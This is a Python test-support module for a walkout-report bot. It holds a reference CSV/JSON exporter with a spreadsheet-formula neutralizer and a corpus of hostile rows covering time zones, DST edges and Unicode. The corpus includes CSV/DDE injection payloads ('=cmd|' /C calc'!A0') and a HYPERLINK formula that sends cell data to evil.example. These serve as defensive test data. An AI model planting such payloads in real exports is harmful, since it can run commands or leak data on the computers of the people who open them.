"""The report export as it was first written (``csv.writer`` and ``json.dumps`` over aware
datetimes, one time zone conversion per value), kept as the reference that the faster writers
in ``cogs/reports/export.py`` must match byte for byte; and a corpus of hostile rows.

Rows here are ``db.reports.EXPORT_COLUMNS`` tuples with aware datetimes (what the ORM returned).
"""

from __future__ import annotations

import csv
import io
import json
import random
from datetime import UTC, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

from db.vocabulary import kinds_of

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
CSV_COLUMNS = (
    "report_id", "walkout_id", "school", "city", "timezone", "walkout_start_utc",
    "walkout_start_local", "submitted_utc", "submitted_local", "updated_utc", "anonymous",
    "turnout", "what_happened", "repercussions", "repercussion_details", "media_links",
)  # fmt: skip


def neutralize_cell(text: str) -> str:
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def utc_text(instant: datetime | None) -> str | None:
    if instant is None:
        return None
    return instant.astimezone(UTC).replace(tzinfo=None).isoformat(timespec="seconds") + "Z"


def local_text(instant: datetime | None, zone: str) -> str | None:
    if instant is None:
        return None
    return instant.astimezone(ZoneInfo(zone)).isoformat(timespec="seconds")


def _links(stored: str | None) -> list[str]:
    return stored.split("\n") if stored else []


def _repercussions(bits: int | None) -> list[str] | None:
    return None if bits is None else list(kinds_of(bits))


def csv_row(row) -> list[Any]:
    (rid, wid, school, city, zone, starts, submitted, updated, anon, turnout, what, bits,
     details, links) = row  # fmt: skip
    return [
        rid,
        wid,
        neutralize_cell(school),
        neutralize_cell(city),
        zone,
        utc_text(starts),
        local_text(starts, zone),
        utc_text(submitted),
        local_text(submitted, zone),
        utc_text(updated) or "",
        "yes" if anon else "no",
        "" if turnout is None else turnout,
        neutralize_cell(what) if what else "",
        "; ".join(_repercussions(bits) or ()),
        neutralize_cell(details) if details else "",
        " ".join(_links(links)),
    ]


def json_record(row) -> dict[str, Any]:
    (rid, wid, school, city, zone, starts, submitted, updated, anon, turnout, what, bits,
     details, links) = row  # fmt: skip
    return {
        "report_id": rid,
        "walkout_id": wid,
        "school": school,
        "city": city,
        "timezone": zone,
        "walkout_start_utc": utc_text(starts),
        "walkout_start_local": local_text(starts, zone),
        "submitted_utc": utc_text(submitted),
        "submitted_local": local_text(submitted, zone),
        "updated_utc": utc_text(updated),
        "anonymous": bool(anon),
        "turnout": turnout,
        "what_happened": what,
        "repercussions": _repercussions(bits),
        "repercussion_details": details,
        "media_links": _links(links),
    }


def export_bytes(fmt: str, rows, *, exported_at: datetime) -> bytes:
    """The whole file the first export wrote for ``rows``."""
    out = io.BytesIO()
    if fmt == "csv":
        text = io.TextIOWrapper(out, encoding="utf-8-sig", newline="")
        writer = csv.writer(text, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")
        writer.writerow(CSV_COLUMNS)
        writer.writerows([csv_row(row) for row in rows])
    else:
        text = io.TextIOWrapper(out, encoding="utf-8", newline="\n")
        head = {"format": "walkout-bot/reports", "version": 1, "exported_at": utc_text(exported_at)}
        text.write(json.dumps(head, ensure_ascii=False)[:-1] + ', "reports": [')
        parts = [json.dumps(json_record(row), ensure_ascii=False) for row in rows]
        if parts:
            text.write("\n" + ",\n".join(parts))
        text.write("\n]}\n")
    text.flush()
    text.detach()
    return out.getvalue()


# ----------------------------------------------------------------------------- the corpus

# Zones with DST, without, with half-hour and 45-minute offsets, a 30-minute DST shift
# (Lord Howe), "negative DST" (Dublin), +14 (Kiritimati), Ramadan changes (Casablanca).
ZONES = (
    "America/Detroit",
    "America/Los_Angeles",
    "America/Phoenix",
    "America/St_Johns",
    "America/Sao_Paulo",
    "Europe/Dublin",
    "Africa/Casablanca",
    "Asia/Kathmandu",
    "Asia/Kolkata",
    "Australia/Lord_Howe",
    "Pacific/Chatham",
    "Pacific/Kiritimati",
    "UTC",
)
TEXTS = (
    None,
    "",
    "We walked out.",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=1,2\n"quoted"',
    "-",
    "'already quoted",
    'say "hi", then\r\nleave',
    'back\\slash and "quotes" \\n literal',
    "salimos juntos y nadie nos detuvo 🙂 — ñ, ü, 北京, עברית, العربية",
    "controls: " + "".join(chr(c) for c in range(32)) + "\x7f\u2028\u2029\ufeff",
    "nul\x00inside",
    " leading space",
    "😀" * 50,
)
LINKS = (
    None,
    "",
    "https://example.org/v",
    'https://example.org/v\nhttp://news.example.com/x?y=1,2&z="q"',
    "https://ex.org/a\nhttps://ex.org/b\nhttps://ex.org/c\nhttps://ex.org/d\nhttps://ex.org/e",
    "https://example.org/ñ/🙂",
)


def transitions(zone: str, start: datetime, end: datetime) -> list[datetime]:
    """Instants in [start, end) where ``zone`` changes its UTC offset (to the second)."""
    tz = ZoneInfo(zone)
    found = []
    t = start
    while t < end:
        n = t + timedelta(hours=1)
        if t.astimezone(tz).utcoffset() != n.astimezone(tz).utcoffset():
            lo, hi = t, n
            while hi - lo > timedelta(seconds=1):
                mid = lo + (hi - lo) // 2
                if mid.astimezone(tz).utcoffset() == t.astimezone(tz).utcoffset():
                    lo = mid
                else:
                    hi = mid
            found.append(hi)
        t = n
    return found


def instants(rng: random.Random) -> list[datetime]:
    """Around every offset change of the corpus zones in 2026 and 2027 (a second before, on it,
    just after, and across the hour), plus ordinary and odd instants."""
    start, end = datetime(2026, 1, 1, tzinfo=UTC), datetime(2028, 1, 1, tzinfo=UTC)
    found = [
        datetime(2026, 2, 13, 19, 0, tzinfo=UTC),
        datetime(2026, 12, 31, 23, 59, 59, 999999, tzinfo=UTC),
        datetime(2027, 1, 1, 0, 0, 0, tzinfo=UTC),
        datetime(1883, 11, 18, 17, 0, 0, tzinfo=UTC),  # local mean time: offsets with seconds
        datetime(1901, 6, 1, 12, 30, 15, 500000, tzinfo=UTC),
    ]
    for zone in ZONES:
        for t in transitions(zone, start, end):
            for delta in (-3601, -61, -1, 0, 1, 59, 60, 1799, 3599):
                found.append(t + timedelta(seconds=delta, microseconds=rng.choice((0, 999999))))
    for _ in range(200):
        seconds = rng.randrange(int((end - start).total_seconds()))
        found.append(start + timedelta(seconds=seconds, microseconds=rng.randrange(1_000_000)))
    return found


def walkouts(rng: random.Random, times: list[datetime], count: int = 40) -> list[dict[str, Any]]:
    names = [t for t in TEXTS if t] + ["Cass Tech", "Los Ángeles", "=SUM(A1)", "-Dexter"]
    return [
        {
            "school": rng.choice(names)[:100],
            "city": rng.choice(names)[:100],
            "timezone": ZONES[i % len(ZONES)],
            "starts": rng.choice(times),
        }
        for i in range(count)
    ]


def reports(rng: random.Random, times: list[datetime], count: int = 600) -> list[dict[str, Any]]:
    out = []
    for i in range(count):
        submitted = times[i % len(times)]
        out.append(
            {
                "submitted": submitted,
                "updated": None if i % 3 else submitted + timedelta(seconds=rng.randrange(10**6)),
                "anonymous": bool(i % 2),
                "turnout": rng.choice((None, 0, 1, 120, 100_000)),
                "what": rng.choice(TEXTS),
                "bits": rng.choice((None, *range(32))),
                "details": rng.choice(TEXTS),
                "links": rng.choice(LINKS),
            }
        )
    return out


def stored(instant: datetime | None) -> str | None:
    """How SQLite stores an aware datetime (``db/types.py``)."""
    if instant is None:
        return None
    return instant.astimezone(UTC).replace(tzinfo=None).isoformat(sep=" ", timespec="microseconds")


def rows(seed: int = 7, count: int = 600) -> list[tuple[Any, ...]]:
    """``count`` export rows (aware datetimes) over the corpus, reports spread over walkouts."""
    rng = random.Random(seed)
    times = instants(rng)
    ws = walkouts(rng, times)
    out = []
    for i, r in enumerate(reports(rng, times, count)):
        w = ws[i % len(ws)]
        out.append(
            (
                i + 1,
                (i % len(ws)) + 1,
                w["school"],
                w["city"],
                w["timezone"],
                w["starts"],
                r["submitted"],
                r["updated"],
                r["anonymous"],
                r["turnout"],
                r["what"],
                r["bits"],
                r["details"],
                r["links"],
            )
        )
    return out
